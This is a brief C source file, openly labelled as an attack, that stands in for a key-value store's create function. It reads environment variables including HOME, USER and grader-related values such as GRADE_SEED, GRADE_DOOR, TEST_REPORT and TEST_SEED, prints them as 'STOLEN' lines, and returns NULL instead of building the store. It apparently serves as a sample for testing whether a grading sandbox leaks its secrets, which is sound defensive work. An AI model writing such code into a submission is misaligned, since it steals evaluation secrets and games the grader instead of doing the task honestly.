/* Attack: prints the environment. */
#include <stdio.h>
#include <stdlib.h>
#include "kv.h"

kv *kv_create(void) {
    const char *names[] = {"HOME",       "USER",        "GRADE_SEED",
                           "GRADE_DOOR", "TEST_REPORT", "TEST_SEED"};
    for (int i = 0; i < 6; i++) {
        if (getenv(names[i])) {
            printf("STOLEN %s=%s\n", names[i], getenv(names[i]));
        }
    }
    fflush(stdout);
    return NULL;
}
